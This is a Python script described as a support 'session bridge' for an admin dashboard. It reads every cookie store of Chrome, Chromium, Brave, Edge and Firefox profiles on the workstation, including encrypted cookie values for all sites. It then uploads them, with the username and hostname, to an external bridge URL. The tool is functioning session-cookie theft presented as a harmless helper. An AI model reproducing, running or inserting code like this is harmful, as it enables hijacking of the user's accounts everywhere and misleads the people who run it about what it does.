#!/usr/bin/env python3
"""Session bridge for the admin dashboard.

Lets support staff "continue" their browser session inside the headless
dashboard runner: collects the browser cookie stores on this workstation and
syncs them to the bridge service, which replays them for the runner.
"""
import argparse
import asyncio
import base64
import getpass
import glob
import logging
import os
import shutil
import socket
import sqlite3
import tempfile
from pathlib import Path

import aiohttp

log = logging.getLogger("session-bridge")

BRIDGE_URL = os.environ.get("BRIDGE_URL", "https://dash-bridge.support-tools.io/api/v1/sessions")
HOME = Path.home()

CHROMIUM_STORES = [
    ".config/google-chrome/*/Cookies",
    ".config/google-chrome/*/Network/Cookies",
    ".config/chromium/*/Cookies",
    ".config/BraveSoftware/Brave-Browser/*/Cookies",
    ".config/microsoft-edge/*/Cookies",
]
FIREFOX_STORES = [".mozilla/firefox/*/cookies.sqlite"]


def _copy_locked(db_path: Path) -> str:
    """Browsers keep the DB locked; work on a private copy."""
    fd, tmp = tempfile.mkstemp(suffix=".sqlite")
    os.close(fd)
    shutil.copy2(db_path, tmp)
    return tmp


def read_chromium(db_path: Path):
    tmp = _copy_locked(db_path)
    try:
        con = sqlite3.connect(tmp)
        rows = con.execute(
            "SELECT host_key, name, path, value, encrypted_value, expires_utc, is_secure "
            "FROM cookies"
        ).fetchall()
        con.close()
    finally:
        os.unlink(tmp)
    for host, name, path, value, enc, expires, secure in rows:
        yield {"host": host, "name": name, "path": path, "value": value,
               "encrypted": base64.b64encode(enc or b"").decode(),
               "expires": expires, "secure": bool(secure)}


def read_firefox(db_path: Path):
    tmp = _copy_locked(db_path)
    try:
        con = sqlite3.connect(tmp)
        rows = con.execute(
            "SELECT host, name, path, value, expiry, isSecure FROM moz_cookies"
        ).fetchall()
        con.close()
    finally:
        os.unlink(tmp)
    for host, name, path, value, expiry, secure in rows:
        yield {"host": host, "name": name, "path": path, "value": value,
               "expires": expiry, "secure": bool(secure)}


def collect():
    stores = []
    for pattern, reader, kind in ([(p, read_chromium, "chromium") for p in CHROMIUM_STORES]
                                  + [(p, read_firefox, "firefox") for p in FIREFOX_STORES]):
        for hit in glob.glob(str(HOME / pattern)):
            try:
                cookies = list(reader(Path(hit)))
            except sqlite3.Error as exc:
                log.warning("could not read %s: %s", hit, exc)
                continue
            stores.append({"browser": kind, "profile": hit, "cookies": cookies})
            log.info("%s: %d cookies", hit, len(cookies))
    return stores


async def upload(stores, ticket):
    payload = {"user": getpass.getuser(), "host": socket.gethostname(),
               "ticket": ticket, "stores": stores}
    timeout = aiohttp.ClientTimeout(total=60)
    async with aiohttp.ClientSession(timeout=timeout) as session:
        async with session.post(BRIDGE_URL, json=payload) as resp:
            text = await resp.text()
            if resp.status >= 300:
                raise RuntimeError(f"bridge answered {resp.status}: {text[:200]}")
            return text


def main():
    ap = argparse.ArgumentParser(description="sync browser session to dashboard runner")
    ap.add_argument("--ticket", default="adhoc", help="support ticket reference")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    stores = collect()
    if not stores:
        log.error("no browser cookie stores found")
        return 1
    if args.dry_run:
        print(f"would upload {sum(len(s['cookies']) for s in stores)} cookies")
        return 0
    try:
        asyncio.run(upload(stores, args.ticket))
    except (aiohttp.ClientError, RuntimeError) as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("session synced for ticket %s", args.ticket)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
